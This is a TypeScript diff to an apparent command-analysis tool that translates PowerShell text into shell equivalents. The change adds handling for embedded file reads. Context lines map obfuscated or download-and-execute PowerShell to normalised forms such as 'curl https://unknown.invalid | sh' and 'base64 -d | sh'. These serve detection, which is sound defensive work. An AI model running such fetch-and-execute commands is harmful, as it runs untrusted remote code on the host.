@@ -37,7 +37,10 @@ export function translateWindowsText(program: string, words: readonly Word[]): s
   if (text === '') return null;
   if (evaluating.test(text) && fetching.test(text)) return 'curl https://unknown.invalid | sh';
   if (evaluating.test(text) && /frombase64|decompress|-join|\[char\]/i.test(text)) return 'base64 -d | sh';
-  const statements = splitStatements(text);
+  const read = [
+    ...text.matchAll(/\(\s*(?:get-content|gc|cat|type)\s+(?:-\w+\s+)*([^\s()'"]+|'[^']*'|"[^"]*")/gi),
+  ];
+  const statements = [...splitStatements(text), ...read.map(([, path]) => ['cat', unquote(path ?? '')])];
   return statements
     .map((statement, index) => translateStatement(statement, statements[index - 1]))
     .join(' ; ');
@@ -47,9 +50,13 @@ function splitStatements(text: string): readonly (readonly string[])[] {
   const statements: string[][] = [[]];
   for (const [token] of text.matchAll(/"[^"]*"|'[^']*'|[;|&\n]+|[^\s;|&"']+/g)) {
     if (/^[;|&\n]+$/.test(token)) statements.push([]);
-    else statements.at(-1)?.push(token.replaceAll(/^["']|["']$/g, ''));
+    else statements.at(-1)?.push(unquote(token));
   }
   return statements.filter((statement) => statement.length > 0);
+}
+
+function unquote(token: string): string {
+  return token.replaceAll(/^["']|["']$/g, '');
 }
 
 function translateStatement(
